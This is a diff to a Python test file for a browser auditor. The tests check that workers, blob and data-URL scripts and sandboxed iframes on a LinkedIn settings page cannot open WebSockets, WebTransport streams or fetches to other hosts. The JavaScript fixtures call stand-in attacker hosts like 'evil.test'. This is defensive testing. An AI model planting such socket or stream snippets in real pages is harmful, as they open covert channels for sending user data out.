@@ -4,50 +4,71 @@ import json
 import socket
 
 import pytest
-from hostile import API, audited, blob, framed, page, reports
+from hostile import API, SETTING, audited, blob, framed, page, reports
 from signed import signed
 from test_ways_out import assert_kept, elsewhere
 
 from auditor.demo import Answer
+from auditor.settings import ORIGIN
 
-SOCKET = "new WebSocket('wss://{tag}.evil.test/');"
-NESTED = f"new Worker({blob(SOCKET.format(tag='nested'))});"
-SOCKETS = f"""
-{SOCKET.format(tag="page")}
-new Worker({blob(SOCKET.format(tag="blob"))});
-new Worker({blob(SOCKET.format(tag="module"))}, {{type: "module"}});
-new Worker("data:text/javascript," + encodeURIComponent({json.dumps(SOCKET.format(tag="data"))}));
-new Worker({blob(NESTED)});
+THERE = "/login/login-restriction"
+
+
+def opens(tag):
+    """A script that says where it ran, and opens all there is to send by that is no request."""
+    sockets = [f"wss://{tag}.evil.test/", f"{API.replace('https', 'wss')}?{tag}"]
+    streams = [f"https://{tag}.evil.test/", API]
+    return (
+        f"fetch('{ORIGIN}/ran?{tag}', {{mode: 'no-cors'}});"
+        f"for (const to of {sockets}) try {{ new WebSocket(to); }} catch {{}}"
+        f"for (const to of {streams}) new WebTransport(to).closed.catch(() => 0);"
+    )
+
+
+def in_frame(script):
+    """A frame without an address that runs `script`."""
+    return f'<iframe srcdoc="{framed(script)}"></iframe>'
+
+
+WORKERS = f"""
+new Worker({blob(opens("blob"))});
+new Worker({blob(opens("module"))}, {{type: "module"}});
+new Worker("data:text/javascript," + encodeURIComponent({json.dumps(opens("data"))}));
 new Worker("/worker.js");
 new Worker("/worker.js?module", {{type: "module"}});
+new Worker("/uas/login/worker.js");
 """
-WORKER = f"""
-fetch("/ran?worker");
-{SOCKET.format(tag="fromfile")}
-{NESTED}
-new Worker("/nested.js");
-"""
-
-
-IN_FRAMES = f"""
-<iframe srcdoc="{framed(SOCKET.format(tag="srcdoc"))}"></iframe>
-<iframe sandbox=allow-scripts srcdoc="{framed(SOCKET.format(tag="sandboxed"))}"></iframe>
-<iframe src="data:text/html,{framed(SOCKET.format(tag="dataframe"))}"></iframe>
+FRAMES = f"""
+{in_frame(WORKERS + opens("srcdoc"))}
+<iframe sandbox=allow-scripts srcdoc="{framed(opens("sandboxed"))}"></iframe>
+<iframe src="data:text/html,{framed(opens("dataframe"))}"></iframe>
 """
 
 
-def test_no_worker_and_no_frame_of_the_page_opens_a_socket(serve):
-    """Workers of every kind, and frames without an address, reach no other host by a socket."""
-    scripts = {"/worker.js": WORKER, "/nested.js": SOCKET.format(tag="nestedfile")}
+@pytest.mark.parametrize("at", [SETTING.path, THERE])
+def test_nothing_is_sent_but_requests(serve, at):
+    """By sockets and streams a setting could be saved: no page opens one, and no worker runs."""
+    html = page(WORKERS + opens("page"), FRAMES)
+    if at != SETTING.path:
+        html = page(f"setTimeout(() => location = '{at}', 100)")
 
     def override(asked):
-        script = scripts.get(asked.path.partition("?")[0])
-        return Answer(script, content_type="text/javascript") if script else elsewhere(asked)
+        if asked.path.partition("?")[0].endswith("/worker.js"):
+            return Answer(opens("file"), content_type="text/javascript")
+        if asked.path == THERE:
+            return Answer(f"<!doctype html><script>{WORKERS}{opens('page')}</script>")
+        return elsewhere(asked)
 
-    server, done, _ = audited(serve, page(SOCKETS, IN_FRAMES), override)
-    assert_kept(server, done)
-    assert {"worker"} == reports(server)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
+        server, _, _ = audited(serve, html, override, listening=packets)
+        packets.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            packets.recv(1)
+    frames = {"srcdoc", "sandboxed", "dataframe"} if at == SETTING.path else set()
+    assert {"page", *frames} == reports(server)
     assert {"www.linkedin.com"} == server.greeted
+    asked = {asked.path for asked in server.seen}
+    assert not [path for path in asked if "worker.js" in path or API.endswith(path[:20])]
 
 
 def fetch_ahead(tag):
@@ -117,25 +138,6 @@ def test_no_host_is_asked_about_passkeys(serve):
     assert {"www.linkedin.com"} == server.greeted
 
 
-@pytest.mark.parametrize("path", ["a blob", "/worker.js"])
-def test_no_worker_opens_a_stream_to_another_host(serve, path):
-    """A worker, which has WebTransport, reaches no other host by it."""
-    script = "new WebTransport('https://stream.evil.test/').closed.catch(() => 0);"
-    started = f"new Worker({blob(script) if path == 'a blob' else repr(path)});"
-
-    def override(asked):
-        if asked.path == "/worker.js":
-            return Answer(script, content_type="text/javascript")
-        return elsewhere(asked)
-
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
-        server, done, _ = audited(serve, page(started), override, listening=packets)
-        packets.setblocking(False)
-        assert_kept(server, done)
-        with pytest.raises(BlockingIOError):
-            packets.recv(1)
-
-
 OPENS = """
 for (const at of ["https://window.evil.test/", "/leads-away"]) window.open(at);
 const link = Object.assign(document.createElement("a"), {href: "https://link.evil.test/"});
@@ -170,27 +172,7 @@ def test_no_connection_is_opened_ahead(serve, tmp_path, kept):
     assert {"www.linkedin.com"} == server.greeted
 
 
-def test_no_socket_saves_a_setting(serve):
-    """Nor is one opened to LinkedIn's own hosts: what is sent by it no rule would see."""
-    opens = f"new WebSocket('{API.replace('https', 'wss')}?{{tag}}');"
-    scripts = "".join(
-        f"new Worker({start});" for start in (blob(opens.format(tag="blob")), "'/worker.js'")
-    )
-
-    def override(asked):
-        if asked.path == "/worker.js":
-            return Answer(opens.format(tag="file"), content_type="text/javascript")
-        return elsewhere(asked)
-
-    in_frame = f'<iframe srcdoc="{framed(opens.format(tag="srcdoc"))}"></iframe>'
-    html = page(f"try {{ {opens.format(tag='page')} }} catch {{}} {scripts}", in_frame)
-    server, done, _ = audited(serve, html, override)
-    assert "on" == done.result["state"]
-    assert [] == [asked.path for asked in server.seen if asked.path.startswith("/mysettings-api")]
-    assert "/worker.js" in {asked.path for asked in server.seen}
-
-
-FRAMES = """addEventListener("load", () => {
+SIGNED_FRAMES = """addEventListener("load", () => {
   let times = 0;
   const one = () => {
     const frame = document.body.appendChild(document.createElement("iframe"));
@@ -205,7 +187,7 @@ def test_nobody_is_asked_for_the_certificate_of_a_page(serve):
     """Of a page that says who signed it, which Chromium asks of any host, nothing is taken."""
     server, done, _ = audited(
         serve,
-        page(FRAMES),
+        page(SIGNED_FRAMES),
         lambda asked: (
             signed("https://signer.evil.test/cert?jane")
             if asked.path.startswith("/signed")
